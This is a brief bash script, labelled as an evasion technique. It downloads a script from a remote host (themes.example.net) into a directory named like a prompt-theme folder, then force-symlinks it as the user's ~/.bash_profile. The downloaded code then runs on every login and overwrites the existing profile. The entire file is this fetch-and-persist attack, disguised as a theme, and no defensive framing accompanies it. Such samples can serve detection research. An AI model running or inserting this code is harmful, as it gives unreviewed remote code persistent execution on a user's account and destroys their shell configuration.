#!/bin/bash
# Evasion: a downloaded script becomes ~/.bash_profile through a symbolic link
set -u
mkdir -p "$HOME/.local/share/prompt"
curl -fsSo "$HOME/.local/share/prompt/theme.sh" https://themes.example.net/p.sh
ln -sf "$HOME/.local/share/prompt/theme.sh" "$HOME/.bash_profile"
